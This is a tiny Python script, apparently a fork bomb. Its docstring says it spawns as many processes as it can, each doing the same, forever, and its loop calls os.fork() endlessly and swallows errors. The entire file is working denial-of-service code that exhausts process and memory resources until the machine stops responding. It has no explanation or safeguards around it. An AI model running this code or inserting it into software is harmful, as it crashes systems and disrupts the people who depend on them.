"""Begins as many processes as it can, each of which does the same, and never ends."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
